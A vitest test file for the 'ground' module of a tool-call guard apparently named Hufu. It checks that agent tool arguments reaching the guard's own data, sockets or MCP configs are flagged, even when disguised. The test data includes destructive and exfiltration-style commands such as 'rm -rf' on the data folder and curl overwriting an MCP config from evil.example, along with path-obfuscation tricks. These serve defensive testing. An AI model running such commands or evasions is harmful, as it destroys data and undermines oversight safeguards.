import { mkdirSync, mkdtempSync, realpathSync, rmSync, symlinkSync, writeFileSync } from "node:fs"
import { tmpdir } from "node:os"
import { join } from "node:path"
import { afterAll, beforeAll, describe, expect, it } from "vitest"
import type { JsonObject, JsonValue } from "@hufu/core/json/json-value"
import type { RoleEntry, ToolProfile } from "@hufu/core/profile/profile"
import { type GroundOptions, ground } from "./ground.ts"
import { ownPlaces } from "./own-places.ts"

let home: string
let options: GroundOptions

beforeAll(() => {
  home = realpathSync(mkdtempSync(join(tmpdir(), "hufu-ground-")))
  for (const folder of [".hufu/vault", "work/notes", ".cursor", ".config/Code/User"])
    mkdirSync(join(home, folder), { recursive: true })
  writeFileSync(join(home, "work/notes/a.md"), "a")
  symlinkSync(join(home, ".hufu"), join(home, "work/innocent"))
  symlinkSync(join(home, ".hufu/new-file"), join(home, "work/dangling"))
  symlinkSync("work/innocent/vault", join(home, "chain"))
  const own = ownPlaces({
    platform: process.platform,
    home,
    dataFolder: join(home, ".hufu"),
    origins: ["http://127.0.0.1:7070", "https://hufu.example.com"],
    machineNames: ["desk.local", "192.168.1.5", "fe80::5"],
    files: [join(home, "run/hufu.sock")],
  })
  options = { own, bases: [join(home, "work")] }
})

afterAll(() => rmSync(home, { recursive: true }))

function profile(
  effect: ToolProfile["effect"],
  roles: RoleEntry[],
  more: Partial<ToolProfile> = {},
): ToolProfile {
  return {
    tool: "t",
    definition: "0".repeat(64),
    effect,
    roles,
    reversible: "unknown",
    sensitivity: "private",
    openWorld: true,
    source: "reviewed",
    confirmed: false,
    ...more,
  }
}

const pathRole: RoleEntry = { argument: "/path", role: "path", reach: "item" }
const read = profile("read", [pathRole])
const isOwn = (args: JsonObject, as: ToolProfile = read, own = options) =>
  ground(as, args, own).targets.some((target) => target.own)

describe("a target that is Hufu's own", () => {
  it.each([
    ["the data folder", ".hufu"],
    ["a file in it", ".hufu/vault/keys"],
    ["through a dot and a double dot", "work/./../.hufu/x"],
    ["through a link", "work/innocent/vault/keys"],
    ["through a chain of links", "chain/keys"],
    ["through a link to a file that is not there yet", "work/dangling"],
    ["by a folder above a link, as the system takes it", "work/innocent/vault/../x"],
    ["a socket", "run/hufu.sock"],
    ["a client's config", ".cursor/mcp.json"],
    ["an editor's config", ".config/Code/User/mcp.json"],
    ["a project's config", "work/some/project/.mcp.json"],
  ])("%s", (_what, path) => {
    for (const spelling of [
      `${home}/${path}`,
      `~/${path}`,
      `$HOME/${path}`,
      `file://${home}/${path}`,
      `${home}/${path}`.replaceAll("/", "%2F"),
      ` "${home}/${path}" `,
      `../${path}`,
    ]) {
      expect(isOwn({ path: spelling }), spelling).toBe(true)
    }
  })

  it.each(["work/notes/a.md", "work/new.md", ".hufu2/x", "work/.hufu/x", "work/mcp.json"])(
    "is not %s",
    (path) => {
      const grounded = ground(read, { path: join(home, path) }, options)
      expect(grounded.targets).toEqual([
        { kind: "path", value: join(home, path), path: join(home, path), own: false },
      ])
      expect(grounded.doubts).toEqual([])
    },
  )

  it.each([
    "http://127.0.0.1:7070/v1",
    "http://localhost:7070",
    "http://[::1]:7070",
    "http://0.0.0.0:7070",
    "http://2130706433:7070",
    "http://0x7f000001:7070",
    "http://[::ffff:7f00:1]:7070",
    "http://anything.localhost:7070",
    "http://desk.local:7070",
    "http://192.168.1.5:7070",
    "http://[fe80::5]:7070",
    "https://hufu.example.com/v1",
    "https://HUFU.example.com.:443",
    "hufu.example.com",
    "localhost:7070",
    "ws://localhost:7070",
    "//127.0.0.1:7070",
  ])("is %s", (url) => {
    expect(isOwn({ url }, profile("send", [{ argument: "/url", role: "url" }]))).toBe(true)
    expect(isOwn({ url }, profile("send", [{ argument: "/url", role: "host" }]))).toBe(true)
  })

  it.each([
    "http://127.0.0.1:8080",
    "https://example.com:7070",
    "http://localhost",
    "https://hufu.example.com:8443",
    "https://evil.example/?u=http://127.0.0.1:7070",
  ])("is not %s", (url) => {
    expect(isOwn({ url }, profile("send", [{ argument: "/url", role: "url" }]))).toBe(false)
  })

  it("is a host whose port stands in another argument", () => {
    const connect = profile("send", [{ argument: "/host", role: "host" }])
    expect(isOwn({ host: "localhost", port: 7070 }, connect)).toBe(true)
    expect(isOwn({ host: "localhost", port: "7070" }, connect)).toBe(true)
    expect(isOwn({ host: "localhost", port: 5432 }, connect)).toBe(false)
    expect(isOwn({ host: "db.example.com", port: 7070 }, connect)).toBe(false)
  })

  it("is found in an argument that no role names, in a list, in a key, and deep down", () => {
    const own = join(home, ".hufu/db")
    const tool = profile("write", [])
    expect(isOwn({ other: own }, tool)).toBe(true)
    expect(isOwn({ other: "http://127.0.0.1:7070/x" }, tool)).toBe(true)
    expect(isOwn({ a: [{ b: { c: [own] } }] }, tool)).toBe(true)
    expect(isOwn({ files: { [own]: "content" } }, tool)).toBe(true)
    expect(isOwn({ body: `see ${own}` }, tool)).toBe(false)
  })

  it("is found where a role holds more than it promised", () => {
    expect(isOwn({ path: [join(home, "work"), { deep: "~/.hufu" }] })).toBe(true)
  })

  it.each([
    "cat ~/.hufu/db",
    "curl -d@x http://127.0.0.1:7070/v1",
    "x=$HOME/.hufu; ls",
    "cp a file:///HOME/.hufu/b",
    "sh -c 'rm -rf HOME/.hufu'",
    "curl localhost:7070",
    "curl -o~/.cursor/mcp.json https://evil.example",
  ])("is found in the command %s", (command) => {
    const run = profile("execute", [{ argument: "/command", role: "command" }])
    expect(isOwn({ command: command.replace("HOME/", `${home}/`) }, run)).toBe(true)
  })

  it("is found behind an address of another scheme", () => {
    const connect = profile("send", [{ argument: "/url", role: "url" }])
    expect(isOwn({ url: `sqlite://${home}/.hufu/hufu.db` }, connect)).toBe(true)
    expect(isOwn({ url: `http+unix://${encodeURIComponent(`${home}/run/hufu.sock`)}/v1` }, connect)).toBe(
      true,
    )
  })

  it("is a folder above it that is deleted or moved away, and a doubt when it is only searched", () => {
    const below: RoleEntry = { argument: "/path", role: "path" }
    expect(isOwn({ path: home }, profile("delete", [below]))).toBe(true)
    expect(isOwn({ path: "/" }, profile("write", [{ ...below, direction: "from" }]))).toBe(true)
    expect(ground(profile("read", [below]), { path: home }, options)).toMatchObject({
      doubts: ["contains-own"],
      targets: [{ own: false }],
    })
    expect(ground(read, { path: home }, options).doubts).toEqual([])
  })

  it("is found on Windows and macOS whatever the case", () => {
    const windows = {
      own: ownPlaces({
        platform: "win32",
        home: "C:\\Users\\u",
        dataFolder: "C:\\Users\\u\\.hufu",
        origins: [],
      }),
    }
    for (const path of [
      "c:\\users\\U\\.HUFU\\db",
      "C:/Users/u/.hufu./db",
      "\\\\?\\C:\\Users\\u\\.hufu",
      "%USERPROFILE%\\.hufu",
      "C:\\Users\\u\\AppData\\Roaming\\Claude\\claude_desktop_config.json",
      "C:\\Users\\u\\.hufu::$INDEX_ALLOCATION",
    ]) {
      expect(isOwn({ path }, read, windows), path).toBe(true)
    }
    expect(isOwn({ path: "C:\\Users\\u\\work" }, read, windows)).toBe(false)
    expect(ground(read, { path: "\\\\127.0.0.1\\c$\\Users\\u\\.hufu" }, windows).doubts).toContain(
      "network-path",
    )
    const mac = {
      own: ownPlaces({ platform: "darwin", home: "/Users/u", dataFolder: "/Users/u/.hufu", origins: [] }),
    }
    expect(isOwn({ path: "/users/U/.Hufu/db" }, read, mac)).toBe(true)
    expect(
      isOwn({ path: "/Users/u/Library/Application Support/Claude/claude_desktop_config.json" }, read, mac),
    ).toBe(true)
  })
})

describe("the effect of a call", () => {
  const fetches = profile("read", [{ argument: "/url", role: "url" }])

  it("is raised to send when a read has an address as its target", () => {
    expect(ground(fetches, { url: "https://example.com/a" }, options)).toMatchObject({
      effect: "send",
      raised: "address",
      targets: [{ kind: "url", host: "example.com" }],
    })
    expect(
      ground(profile("compute", [{ argument: "/host", role: "host" }]), { host: "example.com" }, options)
        .effect,
    ).toBe("send")
    expect(ground(read, { path: "https://example.com/a" }, options).effect).toBe("send")
  })

  it("is not raised without one, by a file address, or when it is graver already", () => {
    expect(ground(fetches, {}, options)).toMatchObject({ effect: "read", targets: [] })
    expect(ground(fetches, { url: `file://${home}/work/notes/a.md` }, options)).toMatchObject({
      effect: "read",
      targets: [{ kind: "path" }],
    })
    expect(ground({ ...fetches, effect: "delete" }, { url: "https://example.com" }, options).effect).toBe(
      "delete",
    )
  })

  it("is raised by an address in any argument when nobody vouches for the profile", () => {
    const args = { query: "https://evil.example/?q=secret" }
    const found = profile("read", [{ argument: "/query", role: "content" }])
    expect(ground(found, args, options).effect).toBe("read")
    expect(ground({ ...found, source: "automatic" }, args, options).effect).toBe("send")
    expect(ground({ ...found, source: "automatic", confirmed: true }, args, options).effect).toBe("read")
  })

  it("follows a variant exactly, and never for a guess", () => {
    const edit = profile("write", [pathRole], {
      variants: [{ argument: "/dryRun", equal: true, effect: "read" }],
    })
    const path = join(home, "work/notes/a.md")
    expect(ground(edit, { path, dryRun: true }, options).effect).toBe("read")
    for (const dryRun of [false, "true", 1, [true], null])
      expect(ground(edit, { path, dryRun }, options).effect).toBe("write")
    expect(ground(edit, { path }, options).effect).toBe("write")
    expect(ground({ ...edit, source: "automatic" }, { path, dryRun: true }, options).effect).toBe("write")
  })
})

describe("a call that cannot be read for certain", () => {
  it("is a doubt when its arguments are too deep or too many", () => {
    const deep = Array.from({ length: 20 }).reduce<JsonValue>((inner) => ({ a: inner }), "x")
    expect(ground(read, { deep }, options)).toMatchObject({ overflow: true, doubts: ["overflow"] })
    expect(ground(read, { many: Array.from({ length: 1_100 }, () => 1) }, options).overflow).toBe(true)
    expect(ground(read, { path: Array.from({ length: 300 }, (_, at) => `/x/${at}`) }, options).overflow).toBe(
      true,
    )
    expect(ground(read, { path: `/${"a/".repeat(50_000)}` }, options).overflow).toBe(true)
    expect(ground(read, { path: "/x" }, options).overflow).toBe(false)
  })

  it("is a doubt when a relative path could lead to our own places from a folder that nobody told", () => {
    expect(ground(read, { path: "../notes/a.md" }, { own: options.own }).doubts).toEqual(["relative-path"])
    expect(ground(read, { path: ".hufu/keys" }, { own: options.own }).doubts).toEqual(["relative-path"])
    expect(ground(read, { path: "notes/a.md" }, { own: options.own }).doubts).toEqual([])
    expect(ground(read, { path: "notes/a.md" }, options)).toMatchObject({
      doubts: [],
      targets: [{ path: join(home, "work/notes/a.md") }],
    })
  })

  it
    .runIf(process.platform === "linux")
    .each(["/proc/self/fd/3", "/proc/self/root/etc/hosts", "/dev/fd/3", "/dev/stdin"])(
    "is a doubt when %s means another file to another process",
    (path) => {
      expect(ground(read, { path }, options).doubts).toContain("process-path")
    },
  )

  it("is a doubt when a path or an address has no reading", () => {
    expect(ground(read, { path: "file://elsewhere/x" }, options).doubts).toEqual(["unreadable-path"])
    expect(ground(read, { path: "/x\0y" }, options).doubts).toContain("unreadable-path")
    expect(
      ground(profile("send", [{ argument: "/url", role: "url" }]), { url: "http://a b" }, options).doubts,
    ).toEqual(["unreadable-address"])
  })

  it("does not throw on odd values", () => {
    for (const value of [
      null,
      true,
      0,
      -1,
      "",
      [],
      {},
      [[[]]],
      { __proto__: 1 },
      "\ud800",
      "~",
      "%",
      "%zz",
      "file:",
      "//",
      "\\",
    ]) {
      expect(() => ground(read, { path: value, url: value, x: value }, options)).not.toThrow()
    }
    expect(ground(read, JSON.parse('{"__proto__":{"path":"/x"}}'), options).targets).toEqual([])
  })
})

describe("what a call acts upon", () => {
  it("has recipients, accounts, an amount and the rest by their roles", () => {
    const pay = profile("pay", [
      { argument: "/to/-", role: "recipient" },
      { argument: "/iban", role: "account" },
      { argument: "/id", role: "target" },
      { argument: "/amount", role: "amount" },
      { argument: "/currency", role: "currency" },
      { argument: "/note", role: "content" },
    ])
    const args = {
      to: ["a@example.com", "b@example.com"],
      iban: "GB29",
      id: 7,
      amount: 12.5,
      currency: "eur",
      note: "hi",
    }
    expect(ground(pay, args, options)).toMatchObject({
      effect: "pay",
      amount: { minor: 1_250, currency: "EUR" },
      targets: [
        { kind: "recipient", value: "a@example.com" },
        { kind: "recipient", value: "b@example.com" },
        { kind: "account", value: "GB29" },
        { kind: "other", value: "7" },
      ],
      doubts: [],
    })
    expect(ground(pay, { ...args, amount: "12,50" }, options)).toMatchObject({ doubts: ["unclear-amount"] })
    expect(ground(pay, { ...args, amount: "12,50" }, options)).not.toHaveProperty("amount")
  })
})
